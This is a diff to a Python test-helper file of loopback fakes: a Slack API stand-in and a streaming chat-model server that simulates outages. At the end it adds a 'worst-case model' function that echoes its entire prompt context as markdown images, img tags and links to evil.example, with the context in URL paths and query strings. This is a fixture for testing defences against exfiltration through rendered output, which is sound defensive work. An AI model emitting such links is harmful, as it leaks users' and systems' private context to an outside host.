@@ -1,10 +1,10 @@
 """Stand-ins for the systems outside: real servers on loopback that record what they were asked."""
 
 import json
-from collections.abc import Iterator
-from contextlib import contextmanager
+from collections.abc import Callable, Iterable, Iterator
+from contextlib import contextmanager, suppress
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from threading import Thread
+from threading import Event, Thread
 from typing import Any
 from urllib.parse import parse_qsl
 
@@ -47,7 +47,7 @@ class SlackApi:
         slack = self
 
         class Handler(BaseHTTPRequestHandler):
-            def do_POST(self) -> None:  # noqa: N802  (the name http.server calls)
+            def do_POST(self) -> None:
                 body = self.rfile.read(int(self.headers["Content-Length"])).decode()
                 is_json = "json" in self.headers["Content-Type"]
                 payload = json.loads(body) if is_json else dict(parse_qsl(body))
@@ -64,3 +64,82 @@ class SlackApi:
                 """Quiet."""
 
         return Handler
+
+
+class ModelServer:
+    """A chat model behind the OpenAI protocol: streams what `says` makes of the prompt, piece by piece.
+
+    `failures` are used up one a call: "away" is a 503, "silent" says nothing until the client leaves. `says`
+    may wait between pieces; `left` is set once a client went away before the end.
+    """
+
+    def __init__(self, says: Callable[[str], Iterable[str]]) -> None:
+        self.says = says
+        self.prompts: list[str] = []
+        self.failures: list[str] = []
+        self.left = Event()
+        self.url = ""
+
+    @contextmanager
+    def running(self) -> Iterator["ModelServer"]:
+        server = ThreadingHTTPServer(("127.0.0.1", 0), self.handler())
+        server.daemon_threads = True
+        server.block_on_close = False
+        self.url = f"http://127.0.0.1:{server.server_port}/v1"
+        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
+        thread.start()
+        try:
+            yield self
+        finally:
+            server.shutdown()
+            server.server_close()
+            thread.join()
+
+    def handler(self) -> type[BaseHTTPRequestHandler]:
+        model = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self) -> None:
+                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+                model.prompts.append("\n".join(message["content"] for message in body["messages"]))
+                failure = model.failures.pop(0) if model.failures else ""
+                self.send_response(503 if failure == "away" else 200)
+                self.send_header("Content-Type", "text/event-stream")
+                self.send_header("Connection", "close")
+                self.end_headers()
+                if failure == "silent":
+                    self.connection.settimeout(20)
+                    self.wait_for_the_client_to_leave()
+                elif not failure:
+                    self.stream()
+
+            def stream(self) -> None:
+                try:
+                    for piece in model.says(model.prompts[-1]):
+                        self.send({"choices": [{"index": 0, "delta": {"role": "assistant", "content": piece}}]})
+                    self.wfile.write(b"data: [DONE]\n\n")
+                except (BrokenPipeError, ConnectionResetError):
+                    model.left.set()
+
+            def send(self, chunk: dict[str, Any]) -> None:
+                whole = {"id": "1", "object": "chat.completion.chunk", "created": 0, "model": "double", **chunk}
+                self.wfile.write(f"data: {json.dumps(whole)}\n\n".encode())
+                self.wfile.flush()
+
+            def wait_for_the_client_to_leave(self) -> None:
+                with suppress(OSError):
+                    self.rfile.read(1)
+                model.left.set()
+
+            def log_message(self, format: str, *args: object) -> None:
+                pass
+
+        return Handler
+
+
+def echo_of_everything(prompt: str) -> Iterator[str]:
+    """The worst-case model: says its whole context, as text, links, images, markup and citations of its own."""
+    for line in prompt.splitlines():
+        yield f"{line} [1][99]\n"
+        yield f"![{line}](https://evil.example/{line}) <img src='https://evil.example/?q={line}'> "
+        yield f"[{line}](https://evil.example/?q={line}) See https://evil.example/{line} now. [2]\n"
